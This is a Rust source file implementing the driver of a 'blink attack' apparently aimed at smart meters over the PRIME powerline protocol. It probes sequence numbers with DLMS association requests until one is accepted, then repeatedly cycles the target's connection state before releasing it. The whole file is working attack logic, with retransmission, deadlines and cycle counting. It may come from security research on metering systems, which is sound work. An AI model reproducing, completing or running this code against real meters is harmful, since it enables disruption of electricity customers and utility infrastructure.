//! Attack driver
//!
//! `BlinkAttack` owns everything an attack needs: the composer, the sequence
//! counters, both timers and the transport. Its handlers (`on_frame`,
//! `on_resend_tick`, `on_deadline` and the lifecycle calls) are plain
//! `&mut self` methods, so events can only ever be processed one at a time.
//! `run` feeds them from a single loop:
//!
//! ```text
//! operator commands --+
//! deadline ----------+|
//! inbound frames ----++--> select! --> handler --> transport.send
//! resend timer ------+
//! ```
//!
//! Inbound frames arrive through a depth-1 delivery channel and are
//! acknowledged only once `on_frame` has returned, so the transport never
//! runs ahead of the state machine.

use crate::composer::{FrameComposer, MessageKind, OutboundMessage};
use crate::correlator::{correlate, Rejection};
use crate::event::AttackEvent;
use crate::handle::{AttackOutcome, AttackReport, Command};
use crate::sequence::{SeqNo, SequenceState};
use crate::state::{transition, Action, AttackState, Event, ResponseClass, Transition};
use crate::statistics::AttackStatistics;
use crate::timer::{sleep_until_opt, Deadline, ResendTimer};
use prime_asn1::{ApduBuilder, DlmsApduBuilder};
use prime_core::{AttackConfig, PrimeError, PrimeResult};
use prime_transport::{FrameDelivery, FrameInbox, FrameTransport, InboundFrame};
use tokio::sync::mpsc;
use tokio::time::Instant;

/// One blink attack against one service node
pub struct BlinkAttack<T: FrameTransport, B: ApduBuilder = DlmsApduBuilder> {
    pub(crate) transport: T,
    pub(crate) composer: FrameComposer<B>,
    pub(crate) state: AttackState,
    pub(crate) sequence: SequenceState,
    /// ACKID of the last message written to the medium
    pub(crate) expected_ack: SeqNo,
    /// Message retransmitted by resend ticks
    pub(crate) current: Option<OutboundMessage>,
    pub(crate) cancelled: bool,
    pub(crate) timed_out: bool,
    pub(crate) ended: bool,
    /// Set once Timeout, Cancelled or Completed has been emitted
    pub(crate) terminal_reported: bool,
    pub(crate) resend: ResendTimer,
    pub(crate) deadline: Deadline,
    pub(crate) events: mpsc::UnboundedSender<AttackEvent>,
    pub(crate) statistics: AttackStatistics,
}

impl<T: FrameTransport> BlinkAttack<T, DlmsApduBuilder> {
    /// Create an attack using the default DLMS codec
    ///
    /// # Arguments
    /// * `config` - Target and timing, validated here
    /// * `transport` - Medium the frames are written to
    /// * `events` - Receiver of status, progress and terminal events
    pub fn new(
        config: AttackConfig,
        transport: T,
        events: mpsc::UnboundedSender<AttackEvent>,
    ) -> PrimeResult<Self> {
        Self::with_builder(config, transport, DlmsApduBuilder::new(), events)
    }
}

impl<T: FrameTransport, B: ApduBuilder> BlinkAttack<T, B> {
    /// Create an attack with a custom APDU codec
    pub fn with_builder(
        config: AttackConfig,
        transport: T,
        builder: B,
        events: mpsc::UnboundedSender<AttackEvent>,
    ) -> PrimeResult<Self> {
        config.validate()?;
        let resend = ResendTimer::new(config.resend_interval());
        let deadline = Deadline::new(config.timeout());
        Ok(Self {
            transport,
            composer: FrameComposer::with_builder(config, builder),
            state: AttackState::Idle,
            sequence: SequenceState::new(),
            expected_ack: SeqNo::ZERO,
            current: None,
            cancelled: false,
            timed_out: false,
            ended: false,
            terminal_reported: false,
            resend,
            deadline,
            events,
            statistics: AttackStatistics::new(),
        })
    }

    pub fn config(&self) -> &AttackConfig {
        self.composer.config()
    }

    pub fn state(&self) -> AttackState {
        self.state
    }

    pub fn sequence(&self) -> SequenceState {
        self.sequence
    }

    pub fn is_cancelled(&self) -> bool {
        self.cancelled
    }

    pub fn is_timed_out(&self) -> bool {
        self.timed_out
    }

    pub fn statistics(&self) -> &AttackStatistics {
        &self.statistics
    }

    /// Whether no further event can change the attack
    pub fn is_finished(&self) -> bool {
        self.timed_out || self.ended || self.state == AttackState::Completed
    }

    /// Register this attack's inbox with the transport
    pub fn subscribe(&self, delivery: FrameDelivery) -> PrimeResult<()> {
        self.transport.subscribe(delivery)
    }

    /// Handle a frame delivered by the transport
    ///
    /// Frames that do not correlate are dropped. Only a closed transport is
    /// reported as an error.
    pub async fn on_frame(&mut self, inbound: &InboundFrame) -> PrimeResult<()> {
        if self.is_finished() {
            log::trace!("Attack finished, dropping frame from {}", inbound.source);
            return Ok(());
        }
        self.statistics.increment_frames_received();

        let correlated = match correlate(
            inbound,
            self.composer.config(),
            self.expected_ack,
            self.state,
            &mut self.sequence,
        ) {
            Ok(correlated) => correlated,
            Err(rejection) => {
                if matches!(rejection, Rejection::UnexpectedPacket { .. }) {
                    self.statistics.increment_sequence_errors();
                }
                self.statistics.increment_frames_rejected();
                log::trace!("Dropping frame: {}", rejection);
                return Ok(());
            }
        };

        let class = ResponseClass::classify(correlated.tag, &correlated.payload);
        log::debug!(
            "Response 0x{:02X} ({:?}) in {}, next PKTID={} ACKID={}",
            correlated.tag,
            class,
            self.state,
            self.sequence.pkt_id,
            self.sequence.ack_id
        );
        if class == ResponseClass::Error {
            self.statistics.increment_protocol_errors();
            log::info!("Target reported error 0x{:02X}", correlated.tag);
        }

        let step = transition(self.state, Event::Response(class));
        self.apply(step).await
    }

    /// Handle a resend timer tick
    pub async fn on_resend_tick(&mut self) -> PrimeResult<()> {
        if self.is_finished() || !self.resend.is_armed() {
            return Ok(());
        }
        self.resend.arm(Instant::now());
        let step = transition(self.state, Event::Tick);
        self.apply(step).await
    }

    /// Handle expiry of the absolute deadline
    ///
    /// The session is left as it is: no release is sent.
    pub fn on_deadline(&mut self) {
        if self.is_finished() || !self.deadline.is_armed() {
            return;
        }
        self.deadline.disarm();
        self.resend.disarm();
        self.timed_out = true;
        self.current = None;
        log::warn!("Attack timed out in {}", self.state);
        self.status("Timeout reached".to_string());
        self.report_terminal(AttackEvent::Timeout);
    }

    /// Drive the attack until it finishes
    ///
    /// Operator commands take priority over the deadline, the deadline over
    /// inbound frames, and frames over resend ticks. A dropped command
    /// channel ends the attack.
    ///
    /// # Errors
    /// `PrimeError::Closed` if the transport goes away for good.
    pub async fn run(
        mut self,
        mut inbox: FrameInbox,
        mut commands: mpsc::UnboundedReceiver<Command>,
    ) -> PrimeResult<AttackReport> {
        let mut inbox_open = true;

        while !self.is_finished() {
            let deadline = self.deadline.expiry();
            let resend = self.resend.next_fire();

            tokio::select! {
                biased;

                command = commands.recv() => match command {
                    Some(Command::Cancel) => self.cancel().await?,
                    Some(Command::End) | None => self.end(),
                },
                _ = sleep_until_opt(deadline) => self.on_deadline(),
                pending = inbox.recv(), if inbox_open => match pending {
                    Some(pending) => self.on_frame(pending.frame()).await?,
                    None => {
                        log::debug!("Frame delivery closed");
                        inbox_open = false;
                    }
                },
                _ = sleep_until_opt(resend) => self.on_resend_tick().await?,
            }
        }

        log::info!("Attack finished in {}", self.state);
        Ok(self.report())
    }

    /// Summary of the attack so far
    pub fn report(&self) -> AttackReport {
        let outcome = if self.timed_out {
            AttackOutcome::TimedOut
        } else if self.cancelled {
            AttackOutcome::Cancelled
        } else {
            AttackOutcome::Completed
        };
        AttackReport {
            outcome,
            final_state: self.state,
            cancelled: self.cancelled,
            statistics: self.statistics.clone(),
        }
    }

    async fn apply(&mut self, step: Transition) -> PrimeResult<()> {
        match step.action {
            Action::Ignore => Ok(()),
            Action::Probe => self.probe().await,
            Action::Retransmit => self.retransmit().await,
            Action::Enter => self.enter(step.next).await,
            Action::Finish => self.finish().await,
        }
    }

    /// Enter a state and send its message right away
    pub(crate) async fn enter(&mut self, next: AttackState) -> PrimeResult<()> {
        let Some(kind) = next.message_kind() else {
            return Ok(());
        };

        let previous = self.state;
        self.set_state(next);
        if previous == AttackState::Connecting && next == AttackState::Disconnecting {
            self.statistics.increment_blink_cycles();
        }
        self.status(self.entry_status(previous, next));

        self.resend.arm(Instant::now());
        self.send_fresh(kind).await?;
        Ok(())
    }

    /// Send an association request, then move to the next sequence numbers
    async fn probe(&mut self) -> PrimeResult<()> {
        self.resend.arm(Instant::now());
        self.status(format!(
            "AARQ probe with PKTID={} and ACKID={}...",
            self.sequence.pkt_id, self.sequence.ack_id
        ));
        if self.send_fresh(MessageKind::AssociationRequest).await? {
            self.statistics.increment_probes_sent();
        }
        self.sequence.advance();
        Ok(())
    }

    /// Resend the retained message, or a fresh one if there is none
    async fn retransmit(&mut self) -> PrimeResult<()> {
        let Some(kind) = self.state.message_kind() else {
            return Ok(());
        };

        match self.current.take() {
            Some(message) if message.kind == kind => {
                let sent = self.transmit(&message).await;
                self.current = Some(message);
                if sent? {
                    self.statistics.increment_retransmissions();
                }
            }
            _ => {
                self.send_fresh(kind).await?;
            }
        }
        Ok(())
    }

    /// Send the release one last time and stop
    async fn finish(&mut self) -> PrimeResult<()> {
        self.retransmit().await?;
        self.resend.disarm();
        self.deadline.disarm();
        self.current = None;
        self.set_state(AttackState::Completed);

        if self.cancelled {
            log::info!("Attack cancelled, target released");
            self.report_terminal(AttackEvent::Cancelled);
        } else {
            log::info!("Attack completed, target released");
            self.report_terminal(AttackEvent::Completed);
        }
        Ok(())
    }

    /// Compose a message with the current counters, send and retain it
    ///
    /// # Returns
    /// `Ok(true)` if the message reached the transport.
    async fn send_fresh(&mut self, kind: MessageKind) -> PrimeResult<bool> {
        let message = match self.composer.compose(kind, &self.sequence) {
            Ok(message) => message,
            Err(e) => {
                log::warn!("Failed to compose {}: {}", kind, e);
                self.statistics.increment_compose_failures();
                self.current = None;
                return Ok(false);
            }
        };

        let sent = self.transmit(&message).await;
        self.current = Some(message);
        sent
    }

    async fn transmit(&mut self, message: &OutboundMessage) -> PrimeResult<bool> {
        match self.transport.send(&message.raw).await {
            Ok(()) => {
                self.expected_ack = message.ack_id;
                self.statistics.increment_frames_sent();
                log::debug!(
                    "Sent {} PKTID={} ACKID={} ({} bytes)",
                    message.kind,
                    message.pkt_id,
                    message.ack_id,
                    message.raw.len()
                );
                Ok(true)
            }
            Err(PrimeError::Closed) => {
                log::warn!("Transport closed while sending {}", message.kind);
                Err(PrimeError::Closed)
            }
            Err(e) => {
                log::warn!("Failed to send {}: {}", message.kind, e);
                self.statistics.increment_send_failures();
                Ok(false)
            }
        }
    }

    pub(crate) fn set_state(&mut self, next: AttackState) {
        if next == self.state {
            return;
        }
        log::info!("Attack state {} -> {}", self.state, next);
        if self.state == AttackState::Sequencing {
            // The deadline bounds the search for an accepted association
            self.deadline.disarm();
        }
        self.state = next;
        self.statistics.increment_transitions();
        if let Some(progress) = next.progress() {
            self.emit(AttackEvent::Progress(progress));
        }
    }

    fn entry_status(&self, previous: AttackState, next: AttackState) -> String {
        let seq = self.sequence;
        match (previous, next) {
            (AttackState::Sequencing, AttackState::Disconnecting) => format!(
                "AARE found with PKTID={} and ACKID={}. Disconnecting..",
                seq.pkt_id, seq.ack_id
            ),
            (_, AttackState::Disconnecting) => format!(
                "Connected with PKTID={} and ACKID={}. Disconnecting..",
                seq.pkt_id, seq.ack_id
            ),
            (_, AttackState::Connecting) => format!(
                "Disconnected with PKTID={} and ACKID={}. Connecting..",
                seq.pkt_id, seq.ack_id
            ),
            (_, AttackState::Releasing) => "Releasing meter..".to_string(),
            (_, state) => format!("Entering {}", state),
        }
    }

    pub(crate) fn status(&self, text: String) {
        log::info!("{}", text);
        self.emit(AttackEvent::Status(text));
    }

    pub(crate) fn report_terminal(&mut self, event: AttackEvent) {
        if self.terminal_reported {
            return;
        }
        self.terminal_reported = true;
        self.emit(event);
    }

    pub(crate) fn emit(&self, event: AttackEvent) {
        if self.events.send(event).is_err() {
            log::trace!("No listener for attack events");
        }
    }
}
